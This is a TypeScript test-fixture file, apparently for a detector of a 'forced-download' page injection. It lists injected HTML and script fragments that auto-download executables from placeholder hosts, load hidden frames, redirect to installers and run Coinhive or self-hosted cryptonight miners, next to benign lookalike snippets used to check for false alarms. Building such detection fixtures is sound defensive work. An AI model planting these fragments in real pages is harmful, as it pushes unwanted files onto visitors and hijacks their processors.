// Files that arrive unasked, and pages that mine.
import type { Change, Injection } from '../injection.ts';
import { atBodyEnd, besideContent, intoHead } from '../places.ts';

const end = (name: string, fragment: string): Change => ({
  name,
  inject: (html) => atBodyEnd(html, fragment),
});

const variants: Change[] = [
  end(
    'click on a made link',
    '<script>var a=document.createElement("a");a.href="https://cdn.fast-setup.example/setup.exe";a.download="setup.exe";document.body.appendChild(a);a.click();</script>',
  ),
  end(
    'click on a link of the page',
    '<a id="dl" href="https://files.codec-pack.example/codec.msi" download></a><script>window.onload=function(){document.getElementById("dl").click()};</script>',
  ),
  end(
    'hidden frame',
    '<iframe src="https://files.player-pack.example/player_update.apk" width="0" height="0" style="display:none"></iframe>',
  ),
  {
    name: 'refresh to a file',
    inject: (html) =>
      intoHead(
        html,
        '<meta http-equiv="refresh" content="2;url=https://files.driver-pack.example/driver.exe">',
      ),
  },
  end(
    'location after a timer',
    "<script>setTimeout(function(){window.location.href='https://get.browser-fix.example/update.dmg'},1500);</script>",
  ),
  end(
    'known miner',
    '<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner=new CoinHive.Anonymous("KEY_NOT_REAL",{throttle:0.3});miner.start();</script>',
  ),
  end(
    'miner of its own',
    '<script>var ws=new WebSocket("wss://pool.hash-share.example:8443/proxy");var w=new Worker("/cryptonight-worker.js");WebAssembly.instantiateStreaming(fetch("/cryptonight.wasm")).then(function(m){w.postMessage({type:"job",pool:"stratum+tcp://pool.hash-share.example"})});</script>',
  ),
  end(
    'archive by a script frame',
    '<script>document.addEventListener("DOMContentLoaded",function(){var f=document.createElement("iframe");f.style.display="none";f.src="https://dl.invoice-docs.example/invoice.zip";document.body.appendChild(f)});</script>',
  ),
];

const plain = (name: string, fragment: string): Change => ({
  name,
  inject: (html, context) => besideContent(html, context, 'last', fragment),
});

const lookalikes: Change[] = [
  plain(
    'download button',
    '<a class="button" href="/downloads/editor-setup-4.2.exe" download>Download for Windows (64 MB)</a>',
  ),
  plain(
    'export on a click',
    '<button id="csv">Export as CSV</button><script>document.getElementById("csv").addEventListener("click",function(){var a=document.createElement("a");a.href="data:text/csv,a,b";a.download="table.csv";a.click()});</script>',
  ),
  plain(
    'game in WebAssembly',
    '<canvas id="game"></canvas><script>WebAssembly.instantiateStreaming(fetch("/game.wasm")).then(function(m){m.instance.exports.main()});</script>',
  ),
  plain(
    'video decoder in a worker',
    '<script>var decoder=new Worker("/decoder.js");decoder.postMessage({wasm:"/h264.wasm"});</script>',
  ),
  plain(
    'live scores',
    '<script>var ws=new WebSocket("wss://live.riverside.example/scores");ws.onmessage=function(e){document.title=e.data};</script>',
  ),
  plain(
    'list of releases',
    '<ul><li><a href="https://github.com/riverside/tool/releases/download/v1/tool.zip">tool.zip</a></li><li><a href="https://github.com/riverside/tool/releases/download/v1/tool.dmg">tool.dmg</a></li></ul>',
  ),
  plain(
    'article on miners',
    '<p>In 2018 thousands of pages carried a script called Coinhive, which used the processors of visitors to mine Monero.</p>',
  ),
];

export const forcedDownload: Injection = {
  technique: 'forced-download',
  rules: ['sp_forced_download'],
  variants,
  lookalikes,
};
